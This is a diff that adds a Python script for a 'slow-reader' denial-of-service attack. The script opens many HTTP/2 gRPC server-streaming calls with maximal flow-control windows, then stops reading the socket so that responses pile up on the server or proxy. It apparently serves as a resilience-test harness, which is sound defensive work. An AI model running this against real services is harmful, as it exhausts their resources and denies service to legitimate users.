@@ -1,0 +1,119 @@
+#!/usr/bin/env python3
+# The slow-reader attack: server-streaming RPCs with huge HTTP/2 windows whose responses are never read.
+import argparse
+import json
+import signal
+import sys
+import threading
+import time
+
+import h2.events
+
+import tls_h2
+
+
+def parse_args():
+    parser = argparse.ArgumentParser(description="Open server-streaming RPCs and stop reading the socket.")
+    parser.add_argument("--port", type=int, required=True)
+    parser.add_argument("--ca", help="PEM CA that signed the proxy's certificate (TLS)")
+    parser.add_argument("--plaintext", action="store_true", help="h2c, e.g. straight to a backend")
+    parser.add_argument("--server-name", default="grpc.example.com")
+    parser.add_argument("--connections", type=int, default=16)
+    parser.add_argument("--streams", type=int, default=4, help="per connection")
+    parser.add_argument("--duration", type=float, required=True, help="seconds; the connections close then")
+    parser.add_argument("--chunk-bytes", type=int, default=65536, help="x-chunk-bytes asked of the backend")
+    args = parser.parse_args()
+    if args.plaintext == bool(args.ca):
+        parser.error("give exactly one of --ca and --plaintext")
+    return args
+
+
+class Attack:
+    def __init__(self, args, context):
+        self.args, self.context = args, context
+        self.lock = threading.Lock()
+        self.connections = []
+        self.counts = {"connections_opened": 0, "streams_opened": 0, "headers_seen": 0}
+        self.early_status = {}  # trailers-only answers: the attack did not get a stream
+        self.errors = []
+
+    def count(self, key, n=1):
+        with self.lock:
+            self.counts[key] += n
+
+    def run_connection(self, done, deadline):
+        try:
+            conn = tls_h2.Connection(self.context, self.args.port, self.args.server_name,
+                                     initial_window=tls_h2.MAX_WINDOW)
+            with self.lock:
+                self.connections.append(conn)
+            self.count("connections_opened")
+            # Open the connection window to the maximum as well, so HTTP/2 flow
+            # control never stops the proxy: only the full TCP socket does.
+            conn.h2.increment_flow_control_window(tls_h2.MAX_WINDOW - 65535)
+            waiting = set()
+            for _ in range(self.args.streams):
+                waiting.add(conn.open_grpc_stream(
+                    "/api.Probe/ServerStream", [("x-chunk-bytes", str(self.args.chunk_bytes))],
+                    end_stream_after_empty_message=True))
+                self.count("streams_opened")
+            conn.flush()
+            # Read just long enough to see the responses start, then never again.
+            until = min(deadline, time.monotonic() + 1.0)
+            while waiting and time.monotonic() < until:
+                conn.sock.settimeout(max(0.01, until - time.monotonic()))
+                events = conn.receive()
+                if events is None:
+                    break
+                for event in events:
+                    if isinstance(event, h2.events.ResponseReceived) and event.stream_id in waiting:
+                        waiting.discard(event.stream_id)
+                        self.count("headers_seen")
+                        status = dict(event.headers).get("grpc-status")
+                        if status is not None:
+                            with self.lock:
+                                self.early_status[status] = self.early_status.get(status, 0) + 1
+                    elif isinstance(event, h2.events.StreamReset):
+                        waiting.discard(event.stream_id)
+        except TimeoutError:
+            pass  # the ~1 s read window is over
+        except Exception as error:  # the report says what went wrong; other connections go on
+            with self.lock:
+                if len(self.errors) < 5:
+                    self.errors.append(f"{type(error).__name__}: {error}")
+        finally:
+            done.release()
+
+    def report(self):
+        with self.lock:
+            return {**self.counts, "early_status": self.early_status, "errors": self.errors}
+
+
+def main():
+    args = parse_args()
+    deadline = time.monotonic() + args.duration
+    try:
+        context = tls_h2.tls_context(args.ca)
+    except (OSError, ValueError) as error:
+        print(f"slow_readers: bad --ca: {error}", file=sys.stderr)
+        return 2
+    stop = threading.Event()
+    signal.signal(signal.SIGTERM, lambda *_: stop.set())
+    attack = Attack(args, context)
+    done = threading.Semaphore(0)
+    for _ in range(args.connections):
+        threading.Thread(target=attack.run_connection, args=(done, deadline), daemon=True).start()
+    for _ in range(args.connections):
+        if not done.acquire(timeout=max(0, deadline - time.monotonic())):
+            break
+    print("ready", flush=True)
+    stop.wait(max(0, deadline - time.monotonic()))
+    with attack.lock:
+        for conn in attack.connections:
+            conn.abort()
+    print(json.dumps(attack.report()), flush=True)
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
